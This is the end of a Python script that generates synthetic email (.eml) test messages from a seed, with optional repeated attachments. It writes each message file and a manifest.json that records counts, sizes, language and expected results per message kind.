    ap.add_argument("--messages", type=int)
    ap.add_argument("--quick", action="store_true", help="120 messages, large attachments 1-2 MiB")
    ap.add_argument("--flat", metavar="FLATDIR")
    ap.add_argument("--mix", action="store_true",
                    help="repeated attachments: 2000 messages (240 with --quick), ~75%% of the "
                         "attachment bytes repeats")
    args = ap.parse_args(argv)
    global ATTACHED
    default = (240 if args.quick else 2000) if args.mix else (120 if args.quick else 1000)
    total = args.messages if args.messages is not None else default
    pool = Repeats(args.seed, args.quick) if args.mix else None
    gen = dict(GEN)
    if pool:
        gen["clean"] = lambda *a: gen_mix_clean(*a, pool)
        gen["large"] = lambda *a: gen_mix_large(*a, pool)
    rng = random.Random(args.seed)
    c = counts(total)
    kinds = [k for k, _, _ in MIX for _ in range(c[k])]
    rng.shuffle(kinds)
    os.makedirs(args.outdir, exist_ok=True)
    if args.flat:
        os.makedirs(args.flat, exist_ok=True)
    files, totals = [], {}
    for i, kind in enumerate(kinds):
        n = i + 1
        # each message has its own generator, so changing one kind's writer
        # leaves the other messages' bytes alone
        mrng = random.Random("%d/%d" % (args.seed, n))
        lang = "ja" if mrng.random() < 0.6 else "en"
        ATTACHED = [] if pool else None
        data, leaves = gen[kind](n, mrng, lang, args.quick)
        name = "%05d-%s.eml" % (n, kind)
        with open(os.path.join(args.outdir, name), "wb") as f:
            f.write(data)
        files.append({"file": name, "kind": kind, "bytes": len(data), "expect": EXPECT[kind],
                      "lang": lang, "leaves": len(leaves)})
        if pool:
            files[-1]["attachments"] = pool.record(ATTACHED)
        t = totals.setdefault(kind, {"count": 0, "bytes": 0, "expect": EXPECT[kind]})
        t["count"] += 1
        t["bytes"] += len(data)
        if args.flat:
            for j, (lname, _, ldata) in enumerate(leaves):
                with open(os.path.join(args.flat, "%05d-%02d-%s" % (n, j + 1, lname)), "wb") as f:
                    f.write(ldata)
    manifest = {"seed": args.seed, "quick": args.quick, "messages": total,
                "bytes": sum(f["bytes"] for f in files), "totals": totals, "files": files}
    if pool:
        manifest["mix"] = {"attachment_bytes": pool.total, "repeated_bytes": pool.repeated,
                           "repeated_share": round(pool.repeated / max(pool.total, 1), 4),
                           "distinct_attachments": len(pool.seen)}
    with open(os.path.join(args.outdir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
